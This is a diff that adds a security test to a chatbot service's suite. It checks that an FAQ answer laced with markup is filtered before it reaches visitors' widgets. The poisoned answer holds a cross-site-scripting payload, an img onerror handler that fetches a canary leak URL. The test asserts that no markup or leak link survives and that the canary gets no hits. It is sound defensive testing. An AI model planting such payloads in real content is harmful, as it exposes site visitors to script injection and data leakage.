@@ -76,3 +76,27 @@ def test_h3_markup_in_documents_comes_back_as_text_and_never_as_a_link(
     finally:
         with pool.connection() as conn:
             conn.execute("DELETE FROM chatbots WHERE name = %s", (name,))
+
+
+def test_h3_an_faq_answer_with_markup_is_filtered_like_any_answer(
+    pool: ConnectionPool, canary: Site
+) -> None:
+    """An FAQ answer is the owner's text, but it reaches visitors' widgets too: the answer
+    that quotes it passes the output filter (no tag, no link off the allow-list)."""
+    name = f"xss-faq-{uuid.uuid4().hex[:8]}"
+    leak = canary.url("/leak?d=faq")
+    poisoned = f"Eight dollars. <img src=x onerror=\"fetch('{leak}')\"> Terms: {leak}"
+    try:
+        code, out = intaj("faq", "add", "--chatbot", name, "--question",
+                          "How much is a puncture repair?", "--answer", poisoned)  # fmt: skip
+        assert code == 0, out
+        code, out = intaj("ask", "--chatbot", name, "How much is a puncture repair?", "--json")
+        assert code == 0, out
+        reply = out
+        assert reply["answer"].startswith("Eight dollars."), reply
+        assert not [m for m in MARKUP if m in reply["answer"]], reply
+        assert canary.url("/leak") not in reply["answer"]
+        assert canary.hits == []
+    finally:
+        with pool.connection() as conn:
+            conn.execute("DELETE FROM chatbots WHERE name = %s", (name,))
